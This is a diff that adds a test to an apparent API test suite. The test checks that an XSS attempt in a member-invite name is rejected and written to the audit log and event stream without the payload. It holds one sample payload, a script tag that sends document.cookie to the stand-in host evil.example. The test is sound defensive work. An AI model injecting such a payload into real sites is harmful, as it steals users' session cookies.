@@ -79,6 +79,25 @@ describe("422", () => {
     );
     expect((await invite(accessToken, { name: "Sean O'Hara -- Union Ave" })).status).toBe(201);
   });
+
+  test("an attack is in the audit trail and an event, by kind and sender and without what was sent", async () => {
+    const owner = await signUpWithFactor(stack);
+    const name = "<script>fetch('//evil.example/'+document.cookie)</script>";
+    expect((await invite(owner.accessToken, { name })).status).toBe(422);
+    const { body } = await stack.http.get("/v1/audit", { token: owner.accessToken });
+    const record = body.items.find(
+      ({ action }: { action: string }) => action === "threats.attack.blocked",
+    );
+    expect(record).toMatchObject({
+      outcome: "failure",
+      actorId: owner.memberId,
+      details: { operation: "createMember", types: ["xss"], riskLevel: expect.any(String) },
+    });
+    await stack.settled();
+    const events = stack.events().filter((sent) => JSON.stringify(sent).includes(record.recordId));
+    expect(events.map((sent) => sent["detail-type"])).toEqual(["threats.attack.blocked"]);
+    expect(JSON.stringify([record, events])).not.toContain("evil");
+  });
 });
 
 describe("429", () => {
